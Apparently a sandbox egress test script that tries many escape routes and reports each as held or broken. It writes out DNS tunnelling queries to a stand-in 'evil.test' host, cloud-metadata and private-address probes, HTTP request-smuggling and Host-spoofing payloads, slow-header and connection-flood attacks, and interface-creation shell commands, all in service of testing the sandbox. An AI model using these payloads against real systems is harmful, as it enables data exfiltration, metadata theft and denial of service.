# Tries to get out of a sandbox by every way we know. Prints a JSON object: attack -> "held" or what broke.
# Arguments: an allowed port of allowed.test, a port of the same address that is not allowed, an address
# of the host, and as whom.
import json, os, socket, ssl, struct, sys, threading, time

PORT, CLOSED = int(sys.argv[1]), int(sys.argv[2])
GET = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"
told = {}


together, alone = [], []


def attack(name, by_itself=False, as_root=False):
    def keep(function):
        if sys.argv[4] == "root" and not as_root:
            # What an account may do makes no difference there.
            return
        def run():
            try:
                broke = function()
            except OSError:
                broke = None
            told[name] = "BROKEN: %s" % (broke,) if broke else "held"
        (alone if by_itself else together).append(run)
    return keep


def says(address, port, sent, family=socket.AF_INET, wait=5):
    """What comes back, if anything; an error is as good as nothing."""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(wait)
        s.connect((address, port))
        s.sendall(sent)
        return s.recv(100)


def exchange(pieces, wait=5):
    """Sends piece by piece to the allowed name; everything that comes back."""
    got = b""
    with socket.create_connection(("allowed.test", PORT), wait) as s:
        s.settimeout(wait)
        for piece in pieces:
            s.sendall(piece)
            time.sleep(0.1)
        try:
            while part := s.recv(1000):
                got += part
        except OSError:
            pass
    return got


def query(name, kind, size=512, tcp=False):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    text = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)
    text += b"\0" * max(0, size - 512)
    if tcp:
        with socket.create_connection(("127.0.0.1", 53), 5) as s:
            s.sendall(struct.pack("!H", len(text)) + text)
            reply = s.recv(2, socket.MSG_WAITALL)
            return s.recv(struct.unpack("!H", reply)[0], socket.MSG_WAITALL)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(text, ("127.0.0.1", 53))
        return s.recv(4096)


def rcode(reply):
    return reply[3] & 15


def answers(reply):
    return struct.unpack("!H", reply[6:8])[0]


# That the way out works at all, or all of this proves nothing.
assert b"200" in exchange([GET % b"allowed.test"]), "the allowed way does not work"


@attack("dns: a name outside the list")
def _():
    for name in ["evil.test", "data.evil.test", "test", "allowed.test.evil.test", "x" * 60 + ".evil.test"]:
        for tcp in [False, True]:
            reply = query(name, 1, tcp=tcp)
            if rcode(reply) != 3 or answers(reply):
                return name


@attack("dns: other records of an allowed name")
def _():
    for kind in [2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 99, 250, 252, 257]:
        if answers(query("allowed.test", kind)):
            return kind


@attack("dns: long questions and long answers")
def _():
    long = ".".join(["x" * 60] * 4)
    for name, kind, size in [(long, 16, 512), ("allowed.test", 255, 512), ("allowed.test", 1, 4000)]:
        try:
            reply = query(name, kind, size)
        except OSError:
            continue
        if len(reply) > 512:
            return len(reply)


@attack("dns: a resolver elsewhere", as_root=True)
def _():
    text = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\4evil\4test\0" + struct.pack("!2H", 16, 1)
    for address in ["8.8.8.8", "1.1.1.1", "198.18.0.1", "127.0.0.53"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            try:
                s.sendto(text, (address, 53))
                return address, s.recv(100)
            except OSError:
                pass
        try:
            if says(address, 53, struct.pack("!H", len(text)) + text, wait=2):
                return address
        except OSError:
            pass


@attack("dns: a flood of questions", by_itself=True)
def _():
    text = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\4evil\4test\0" + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setblocking(False)
        answered, end = 0, time.monotonic() + 2
        while time.monotonic() < end:
            for act in [lambda: s.sendto(text, ("127.0.0.1", 53)), lambda: s.recv(600)]:
                try:
                    answered += isinstance(act(), bytes)
                except OSError:
                    pass
    if answered > 2 * 2000 + 600:
        return answered
    socket.getaddrinfo("allowed.test", 80)


@attack("udp", as_root=True)
def _():
    for address in ["10.0.0.1", "8.8.8.8", "169.254.169.254", "255.255.255.255", "224.0.0.1"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"x", (address, 443))
                return address, s.recv(10)
            except OSError:
                pass


@attack("icmp and raw packets", as_root=True)
def _():
    icmp = struct.pack("!BBHHH", 8, 0, 0xF7FF - 1, 1, 1)
    for family, kind, protocol in [
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        (socket.AF_INET, socket.SOCK_RAW, 132),
    ]:
        try:
            with socket.socket(family, kind, protocol) as s:
                s.settimeout(0.5)
                s.sendto(icmp, ("8.8.8.8", 0))
                while True:
                    reply, sender = s.recvfrom(100)
                    # What this loopback echoes of our own is no answer.
                    if reply[-8:-7] == b"\0":
                        # The echo of the local route: still nobody outside.
                        break
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
            devices = [name for _, name in socket.if_nameindex() if name != "lo"]
            if devices:
                return devices
    except OSError:
        pass


@attack("there is no device but loopback, and none can be made", as_root=True)
def _():
    devices = [name for _, name in socket.if_nameindex()]
    if devices != ["lo"]:
        return devices
    os.system("ip link add d0 type dummy 2>/dev/null; ip link add v0 type veth peer name v1 2>/dev/null")
    os.system("ip route add default via 127.0.0.1 2>/dev/null; ip tuntap add t0 mode tun 2>/dev/null")


@attack("ipv6, and ipv4 in its clothes", as_root=True)
def _():
    for address in ["2606:4700:4700::1111", "fd00:ec2::254", "fe80::1", "64:ff9b::a00:1"]:
        try:
            if says(address, 80, GET % b"x", socket.AF_INET6, 2):
                return address
        except OSError:
            pass
    for address in ["10.0.0.1", "169.254.169.254", "192.168.0.1", "1.1.1.1"]:
        try:
            if says("::ffff:" + address, 80, GET % b"x", socket.AF_INET6, 2):
                return address
        except OSError:
            pass


@attack("metadata, private and written-down addresses")
def _():
    for address in [
        "169.254.169.254", "169.254.170.2", "100.100.100.200", "10.0.0.1", "172.17.0.1", "192.168.0.1",
        "100.64.0.1", "1.1.1.1", "8.8.8.8", "198.18.0.77", "198.19.255.255", "192.0.2.1", "240.0.0.1", sys.argv[3],
    ]:
        for port in [80, 443, PORT, CLOSED, 1]:
            try:
                if got := says(address, port, GET % b"x", wait=3):
                    return address, port, got
            except OSError:
                pass


@attack("the host's own loopback")
def _():
    for address in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost"]:
        for port in [PORT, CLOSED]:
            try:
                if says(address, port, GET % b"x", wait=2):
                    return address, port
            except OSError:
                pass


@attack("names that lead inside")
def _():
    for name in ["metadata", "private", "loop", "host", "mapped", "ula", "zero"]:
        for port in [80, CLOSED]:
            try:
                if says(name + ".rebind.test", port, GET % b"x"):
                    return name
            except OSError:
                pass


@attack("another port of an allowed name")
def _():
    return says("allowed.test", CLOSED, GET % b"allowed.test")


def hello(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


@attack("tls: another server name, none, an old form, in pieces")
def _():
    evil, none = hello("evil.test"), hello(None)
    old = bytes([0x80, 0x2E, 1, 3, 3, 0, 0x15, 0, 0, 0, 0x10]) + b"\0\0\x2f" * 7 + b"c" * 16
    split = b"".join(b"\x16\x03\x01" + struct.pack("!H", len(p)) + p for p in [evil[5:50], evil[50:]])
    for name, pieces in {
        "other": [evil], "none": [none], "old": [old], "split": [split],
        "slowly": [evil[i : i + 40] for i in range(0, len(evil), 40)],
    }.items():
        # A server of plain HTTP says something to everything that reaches it.
        if got := exchange(pieces, 3):
            return name, got


@attack("http: another host")
def _():
    for text in [
        GET % b"evil.test",
        b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        b"GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost : evil.test\r\n\r\n",
        b"GET / HTTP/1.1\r\nX: y\r\n Host: evil.test\r\n\r\n",
        b"GET\t/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
    ]:
        if got := exchange([text], 3):
            return text, got


@attack("http: another host later on the same connection")
def _():
    evil = GET % b"evil.test"
    good = GET % b"allowed.test"
    post = b"POST / HTTP/1.1\r\nHost: allowed.test\r\n"
    for text in [
        good + evil,
        post + b"Content-Length: 2\r\n\r\nok" + evil,
        post + b"Transfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n" + evil,
        post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + evil,
        post + b"Content-Length: 0\r\nContent-Length: 80\r\n\r\n" + evil,
        post + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + evil,
        post + b"Transfer-Encoding: chunked\r\n\r\n0\n\n" + evil,
        b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n" + evil,
    ]:
        for pieces in [[text], [text[: -len(evil)], evil]]:
            if b"evil" in exchange(pieces, 3):
                return text


@attack("a head that never ends")
def _():
    began = time.monotonic()
    with socket.create_connection(("allowed.test", PORT)) as s:
        s.settimeout(20)
        s.sendall(b"GET / HTTP/1.1\r\nHo")
        try:
            while time.monotonic() - began < 20:
                s.sendall(b"s")
                time.sleep(0.5)
            return "it is still open"
        except OSError:
            return None


@attack("heads too long to be read")
def _():
    return exchange([b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 5000 + b"Host: evil.test\r\n\r\n"], 3)


@attack("half-open connections do not stay", by_itself=True)
def _():
    held = []
    for _ in range(300):
        s = socket.create_connection(("allowed.test", PORT), 5)
        s.shutdown(socket.SHUT_WR)
        held.append(s)
    if b"200" not in exchange([GET % b"allowed.test"], 10):
        return "they keep others out"


threads = [threading.Thread(target=run) for run in together]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
for run in alone:
    run()
# A way that could not even be tried is not held.
assert len(told) == len(together) + len(alone), told
print(json.dumps(told))
